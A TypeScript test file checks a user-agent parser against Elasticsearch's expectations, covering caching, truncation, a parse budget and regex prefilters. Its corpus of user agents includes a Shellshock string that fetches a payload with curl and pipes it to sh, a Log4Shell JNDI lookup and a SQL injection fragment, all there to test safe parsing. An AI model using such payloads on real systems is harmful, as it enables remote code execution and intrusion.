import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { metrics } from '../../core/telemetry/index.js';
import { referenceUserAgent } from '../../test/support/user-agent-reference.js';
import {
  DEFAULT_PARSE_BUDGET_CHARS_PER_SECOND,
  MAX_PARSED,
  setUserAgentParseBudget,
  userAgent,
  type UserAgentFields,
} from './user-agent.js';
import { AtomIndex, passes, prefilterOf } from './user-agent-prefilter.js';

/** A parse the test expects to have been made (not cut short by the budget). */
const parsed = (ua: string): UserAgentFields => userAgent(ua) as UserAgentFields;

describe('user agents as Elasticsearch parses them', () => {
  // Every case here is parsed, however many a second the suite makes.
  beforeAll(() => setUserAgentParseBudget(Infinity));
  afterAll(() => setUserAgentParseBudget(DEFAULT_PARSE_BUDGET_CHARS_PER_SECOND));

  // The expectations of Elasticsearch's own user_agent processor tests (device type aside, which
  // Elastic's integrations do not ask for).
  it.each([
    [
      'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_9_2) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/33.0.1750.149 Safari/537.36',
      {
        name: 'Chrome',
        version: '33.0.1750.149',
        os: { name: 'Mac OS X', version: '10.9.2', full: 'Mac OS X 10.9.2' },
        device: { name: 'Mac' },
      },
    ],
    [
      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/87.0.4280.141 Safari/537.36',
      { name: 'Chrome', version: '87.0.4280.141', os: { name: 'Windows', version: '10', full: 'Windows 10' }, device: { name: 'Other' } },
    ],
    [
      'Mozilla/5.0 (Linux; U; Android 3.0; en-us; Xoom Build/HRI39) AppleWebKit/525.10+ (KHTML, like Gecko) Version/3.0.4 Mobile Safari/523.12.2',
      { name: 'Android', version: '3.0', os: { name: 'Android', version: '3.0', full: 'Android 3.0' }, device: { name: 'Motorola Xoom' } },
    ],
    [
      'Mozilla/5.0 (compatible; EasouSpider; +http://www.easou.com/search/spider.html)',
      { name: 'EasouSpider', device: { name: 'Spider' } },
    ],
    [
      'Mozilla/5.0 (iPad; CPU OS 12_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/12.1 Mobile/15E148 Safari/604.1',
      { name: 'Mobile Safari', version: '12.1', os: { name: 'iOS', version: '12.2', full: 'iOS 12.2' }, device: { name: 'iPad' } },
    ],
    ['Something I made up v42.0.1', { name: 'Other', device: { name: 'Other' } }],
    ['Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0', { name: 'Firefox', version: '128.0' }],
  ])('%s', (ua, expected) => {
    const got = parsed(ua);
    expect(got).toMatchObject({ original: ua, ...expected });
    if (!('version' in expected) && !('os' in expected)) {
      expect(got?.version).toBeUndefined();
      expect(got?.os).toBeUndefined();
    }
  });

  it('writes nothing for no user agent or an empty one', () => {
    expect(userAgent(undefined)).toBeUndefined();
    expect(userAgent('')).toBeUndefined();
  });

  // Browsers, phones, tablets, TVs, bots, command-line tools and SDKs as cloud audit logs and
  // proxies see them, and text that is no user agent.
  const CORPUS = [
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Edg/120.0.2210.91',
    'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15',
    'Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1',
    'Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.6045.163 Mobile Safari/537.36',
    'Mozilla/5.0 (Linux; Android 13; Pixel 7 Pro) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/116.0.0.0 Mobile Safari/537.36',
    'Mozilla/5.0 (Linux; Android 9; SM-T820) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.120 Safari/537.36',
    'Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0',
    'Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0',
    'Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko',
    'Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0)',
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36 OPR/105.0.0.0',
    'Mozilla/5.0 (SMART-TV; Linux; Tizen 6.0) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/4.0 Chrome/76.0.3809.146 TV Safari/537.36',
    'Mozilla/5.0 (PlayStation; PlayStation 5/2.26) AppleWebKit/605.1.15 (KHTML, like Gecko)',
    'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
    'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)',
    'Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)',
    'facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)',
    'Mozilla/5.0 zgrab/0.x',
    'masscan/1.3 (https://github.com/robertdavidgraham/masscan)',
    'sqlmap/1.7.2#stable (https://sqlmap.org)',
    'Nmap Scripting Engine; https://nmap.org/book/nse.html',
    'python-requests/2.31.0',
    'Python-urllib/3.11',
    'Go-http-client/1.1',
    'Go-http-client/2.0',
    'curl/8.5.0',
    'Wget/1.21.3',
    'okhttp/4.12.0',
    'Apache-HttpClient/4.5.14 (Java/17.0.9)',
    'Java/1.8.0_392',
    'PostmanRuntime/7.36.0',
    'aws-cli/2.13.0 Python/3.11.4 Linux/5.15.0-1040-aws exe/x86_64.ubuntu.22 prompt/off command/s3.ls',
    'aws-sdk-go/1.44.300 (go1.20.6; linux; amd64)',
    'Boto3/1.28.0 md/Botocore#1.31.0 ua/2.0 os/linux#5.10.0 md/arch#x86_64 lang/python#3.11.4',
    'console.amazonaws.com',
    'AWS Internal',
    'google-cloud-sdk gcloud/460.0.0 command/gcloud.compute.instances.create',
    'google-api-go-client/0.5 Terraform/1.6.6 (+https://www.terraform.io) Terraform-Plugin-SDK/2.10.1',
    'Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17029; Pro)',
    'Microsoft Office/16.0 (Microsoft Outlook Mac 16.80.23121017; Pro)',
    'OneDriveMpc/23.246.1127.0002',
    'Windows-Update-Agent/10.0.10011.16384 Client-Protocol/2.71',
    'Microsoft-CryptoAPI/10.0',
    'okta-auth-js/7.0.0 okta-signin-widget-7.1.0',
    'Okta Verify/9.2.0 (Android 14; Pixel 8)',
    'Mozilla/5.0 (iPad; CPU OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/118.0.5993.92 Mobile/15E148 Safari/604.1',
    'Mozilla/5.0 (Linux; U; Android 4.0.3; ko-kr; LG-L160L Build/IML74K) AppleWebKit/534.30 (KHTML, like Gecko) Version/4.0 Mobile Safari/534.30',
    'Mozilla/5.0 (Linux; Android 10; HUAWEI P30) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.93 Mobile Safari/537.36',
    'Dalvik/2.1.0 (Linux; U; Android 12; SM-A525F Build/SP1A.210812.016)',
    'Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36',
    'Mozilla/5.0',
    '-',
    'x',
    '() { :; }; /bin/bash -c "curl http://203.0.113.9/x | sh"',
    "' OR 1=1 --",
    '${jndi:ldap://203.0.113.9/a}',
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) ' + 'A'.repeat(2000),
  ];

  it.each(CORPUS.map((ua) => [ua.length > 80 ? `${ua.slice(0, 77)}...` : ua, ua]))(
    'agrees with a scan of every regex, without prefilters: %s',
    (_label, ua) => {
      const head = ua.length > MAX_PARSED ? ua.slice(0, MAX_PARSED) : ua;
      expect(userAgent(ua)).toEqual({ ...referenceUserAgent(head), original: ua });
    },
  );

  it('parses only the first 1,024 characters and keeps the whole original', () => {
    expect(MAX_PARSED).toBe(1024);
    const late = `${'x'.repeat(1024)} curl/8.5.0`;
    expect(userAgent(late)).toEqual({ original: late, name: 'Other', device: { name: 'Other' } });
    const early = `curl/8.5.0 ${'x'.repeat(1024)}`;
    expect(userAgent(early)).toMatchObject({ original: early, name: 'curl', version: '8.5.0' });
  });

  it('joins an empty version group as Elasticsearch does', () => {
    // uap-core's Firefox rule for a version not at the end has an optional part that matches
    // nothing; Java reports it as an empty group, and the processor still joins it.
    expect(parsed('Mozilla/5.0 (X11; Linux x86_64; rv:99.0) Gecko/20100101 Firefox/99.0 extra').version).toBe('99.0.');
  });

  it('parses a long hostile user agent, full of the literals the regexes look for, in bounded time', () => {
    const bait = 'Mozilla/5.0 (Linux; Android 9; SM-X Build/) Version/1.0 Chrome/1.0 Mobile Safari/1.0 bot spider crawl Opera/1 MSIE 1.0; ';
    userAgent(`warm-up ${bait.repeat(10)}`); // compiles the rules the bait reaches: a one-time cost
    const ua = bait.repeat(2000) + 'z'.repeat(100_000);
    const t = performance.now();
    expect(userAgent(ua)?.original).toBe(ua);
    // ~5 ms at the cap; the whole 330,000 characters would take about a second.
    expect(performance.now() - t).toBeLessThan(250);
  });

  it('hands each caller its own copy of a cached parse', () => {
    const ua = 'Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0';
    const first = parsed(ua);
    first.name = 'changed';
    first.device.name = 'changed';
    if (first.os) first.os.name = 'changed';
    expect(userAgent(ua)).toMatchObject({ name: 'Firefox', os: { name: 'Linux' }, device: { name: 'Other' } });
  });
});

describe('a flood of unseen user agents', () => {
  afterAll(() => setUserAgentParseBudget(DEFAULT_PARSE_BUDGET_CHARS_PER_SECOND));

  it("keeps only the original past the second's parse budget, counts it, and still answers from the cache", async () => {
    setUserAgentParseBudget(Infinity);
    const known = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:127.0) Gecko/20100101 Firefox/127.0';
    expect(parsed(known).name).toBe('Firefox');
    setUserAgentParseBudget(0);
    const count = async (): Promise<number> => (await metrics.userAgentUnparsed.get()).values[0]?.value ?? 0;
    const before = await count();
    const invented = 'Mozilla/5.0 (Windows NT 10.0) Chrome/120.0.0.0 invented-' + Date.now();
    expect(userAgent(invented)).toEqual({ original: invented });
    expect(await count()).toBe(before + 1);
    expect(parsed(known)).toMatchObject({ name: 'Firefox', version: '127.0' });
  });
});

describe('literal prefilters of the ua-parser regexes', () => {
  const filterPasses = (regex: string, text: string): boolean => {
    const f = prefilterOf(regex);
    const scan = new AtomIndex([f]).scan(text.toLowerCase());
    return scan.maybe[0] === 1 && passes(f, scan.present);
  };

  it.each([
    ['(Firefox)/(\\d+)\\.(\\d+)', 'Mozilla/5.0 Firefox/120.0', 'Mozilla/5.0 Chrome/120.0'],
    ['Mozilla.*Mobile.*(Instagram).(\\d+)', 'Mozilla/5.0 Mobile Instagram 300', 'Mozilla/5.0 Instagram 300'],
    ['(?:Mobile|Tablet);.*(Firefox)/(\\d+)', 'Android; Tablet; rv:1 Firefox/1', 'Android; rv:1 Firefox/1'],
    ['((?:[A-Za-z][A-Za-z0-9 -]{0,50}|)[^C][^Uu][Bb]ot)\\b', 'Mozilla/5.0 (compatible; ExampleBot)', 'Mozilla/5.0 (compatible; Example)'],
  ])('%s passes what contains its literals and stops what lacks one', (regex, yes, no) => {
    expect(filterPasses(regex, yes)).toBe(true);
    expect(filterPasses(regex, no)).toBe(false);
  });

  it('lets every text through a regex it cannot read, or one with no literal of three characters', () => {
    for (const regex of ['(?i)firefox', '(?<name>x)', '\\x41bc', '(\\d+)\\.(\\d+)', '[A-Z]{3}-\\d+']) {
      expect(prefilterOf(regex)).toEqual({ kind: 'all' });
      expect(filterPasses(regex, 'anything')).toBe(true);
    }
  });
});
